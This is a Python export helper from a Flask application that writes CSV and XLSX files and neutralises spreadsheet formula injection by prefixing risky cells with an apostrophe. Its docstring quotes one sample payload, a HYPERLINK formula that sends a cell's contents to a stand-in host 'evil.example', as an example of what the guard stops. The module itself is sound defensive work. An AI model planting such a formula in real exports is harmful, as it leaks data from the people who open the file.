"""The one export helper: CSV and XLSX files that a spreadsheet opens as data, never as code.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and WPS (CSV injection, OWASP): a supplier's product named
``=HYPERLINK("http://evil.example/?leak="&B2,"…")`` would run in an operator's spreadsheet. Every
text cell goes through ``safe_cell``, which puts an apostrophe in front of such text (OWASP's
advice: the cell then shows the text as typed). Numbers, dates and booleans are written as
themselves.

Every export, present and future, is built here::

    from yipin import exports

    data = exports.csv_bytes(header, rows)
    data = exports.xlsx_bytes([exports.Sheet("订单 orders", header, rows, widths=[20, 18])])
    return exports.download(data, "recall-B1.xlsx")

``download`` answers with the right type, as an attachment, never cached.
``tests/core/test_exports.py`` opens every ``.csv`` / ``.xlsx`` route of the URL map with
``csv`` / openpyxl and fails on a formula-leading cell.
"""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from flask import Response

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
CSV = "text/csv"  # Flask adds "; charset=utf-8"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> Any:
    """``value``, with text that a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file in UTF-8 with a BOM (Excel then opens the Chinese intact)."""
    out = io.StringIO()
    writer = csv.writer(out)
    if header is not None:
        writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    return codecs.BOM_UTF8 + out.getvalue().encode("utf-8")


@dataclass
class Sheet:
    """One worksheet: ``preamble`` rows (a title block), a bold ``header`` row that stays in
    view, the data ``rows`` and column ``widths`` (in characters)."""

    title: str
    header: Sequence[Any]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[int] = ()
    preamble: Sequence[Sequence[Any]] = field(default_factory=list)
    header_fill: str | None = "FFF3E6"


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook (written in streaming mode: memory stays flat for long lists)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font, PatternFill
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(_sheet_title(spec.title))
        sheet.freeze_panes = f"A{len(spec.preamble) + 2}"
        for index, width in enumerate(spec.widths):
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
        for row in spec.preamble:
            sheet.append(safe_row(row))
        cells = []
        for text in spec.header:
            cell = WriteOnlyCell(sheet, value=safe_cell(text))
            cell.font = Font(bold=True)
            if spec.header_fill:
                cell.fill = PatternFill("solid", fgColor=spec.header_fill)
            cells.append(cell)
        sheet.append(cells)
        for row in spec.rows:
            sheet.append(safe_row(row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _sheet_title(title: str) -> str:
    """Excel's rules for a sheet's name: at most 31 characters, none of ``[]:*?/\\``."""
    cleaned = "".join(" " if c in "[]:*?/\\" else c for c in title).strip("'") or "Sheet"
    return cleaned[:31]


def download(data: bytes, filename: str) -> Response:
    """The file as an attachment (its type from the name's ending), never cached."""
    mimetype = XLSX if filename.lower().endswith(".xlsx") else CSV
    ascii_name = filename.encode("ascii", "replace").decode().replace('"', "").replace("?", "_")
    return Response(
        data,
        mimetype=mimetype,
        headers={
            "Content-Disposition": f'attachment; filename="{ascii_name}";'
            f" filename*=UTF-8''{quote(filename)}",
            "Cache-Control": "no-store",
            "X-Content-Type-Options": "nosniff",
        },
    )
